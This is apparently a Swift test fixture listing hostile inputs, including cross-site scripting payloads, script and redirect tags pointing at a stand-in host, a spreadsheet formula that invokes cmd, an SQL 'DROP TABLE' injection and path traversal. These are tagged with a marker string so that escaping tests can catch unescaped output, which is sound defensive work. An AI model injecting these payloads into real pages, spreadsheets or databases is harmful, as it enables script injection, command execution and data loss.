/// What people type who want a page to be theirs. Each has `x9q` in it where it would become markup,
/// so that a test finds it in a name of an element or attribute.
enum HostileTexts {
  /// Ways out of where a text stands.
  private static let escapes = [
    "", "\">", "'>", "\" ", "' ", "</title>", "</textarea>", "</script>", "</style>", "</select>",
    "</option></select>", "-->", "]]>", "</bdi></td></tr></table>", "</svg>", "\n\n", "\\\">",
  ]

  /// What is then written.
  private static let payloads = [
    "<x9q>", "<script>x9q()</script>", "<script src=//x9q.example></script>",
    "<img src=x onerror=x9q()>", "<svg onload=x9q()>", "<svg/onload=x9q()//",
    "<body onx9q=1>", "<iframe srcdoc='<script>x9q()</script>'>", "<a href=javascript:x9q()>x</a>",
    "<form action=//x9q.example><input name=csrf>", "onmouseover=x9q() x9q=",
    "<math><mtext><table><mglyph><style><img src=x onerror=x9q()>",
    "<template><script>x9q()</script></template>", "<base href=//x9q.example>",
    "<meta http-equiv=refresh content=0;url=//x9q.example>",
    "<link rel=stylesheet href=//x9q.example>",
    "<style>@import '//x9q.example'</style>", "<object data=//x9q.example>",
    "<details open ontoggle=x9q()>", "<input autofocus onfocus=x9q()>",
  ]

  /// Everything that is no tag: entities, links, directions, characters nobody sees.
  private static let others = [
    "&lt;x9q&gt;", "&#x3c;x9q&#x3e;", "&#60;script&#62;x9q()", "&amp;lt;x9q>", "&NewLine;x9q", "&",
    "javascript:x9q()", "JaVaScRiPt:x9q()", "java\u{200B}script:x9q()", "data:text/html,<x9q>",
    "vbscript:x9q()", "view-source:javascript:x9q()", "https://x9q.example/\"onclick=\"x9q()",
    "https://x9q.example/'><x9q>", "http://x9q.example/<x9q>", "mailto:x9q@example.org?body=<x9q>",
    "https://x9q.example\u{202E}gpj.exe", "HTTPS://X9Q.EXAMPLE/`onclick=x9q()`",
    "{{x9q}}", "${x9q}", "<%= x9q %>", "#{x9q}", "\\(x9q)", "%3Cx9q%3E", "\\u003cx9q\\u003e",
    "\u{FF1C}x9q\u{FF1E}", "\u{2039}x9q\u{203A}", "<\u{0338}x9q>", "x9q\u{2028}x9q\u{2029}x9q",
    "\u{202E}q9x\u{202C}", "\u{2066}x9q\u{2069}", "\u{200F}x9q\u{200E}", "\u{061C}x9q",
    "\u{FEFF}x9q",
    "x9q\u{E0001}\u{E0041}", "x9q\u{0300}\u{0301}\u{0302}", "=cmd|'/c x9q'!A1", "+x9q", "-x9q",
    "@x9q", "=HYPERLINK(\"//x9q.example\")", "\u{FF1D}x9q", "<!--x9q", "<!doctype x9q>", "<?x9q?>",
    "<![CDATA[x9q", "<", ">", "\"", "'", "`x9q`", "</", "<>", "< x9q>", "<\u{A0}x9q>", "</x9q",
    "\"\"\"''", "x9q\u{1F468}\u{200D}\u{1F469}", "'; DROP TABLE x9q; --", "../../../x9q",
  ]

  /// Some hundreds, each once.
  static let all: [String] = payloads.flatMap { payload in escapes.map { $0 + payload } } + others

  /// The same with what may stand in no text: it is refused, and what was typed is shown again.
  static let refused = [
    "x9q\0<x9q>", "x9q\u{1B}[31m<x9q>", "\u{7}x9q\">", "x9q\u{85}<x9q>", "x9q\u{9B}31m",
  ]
}
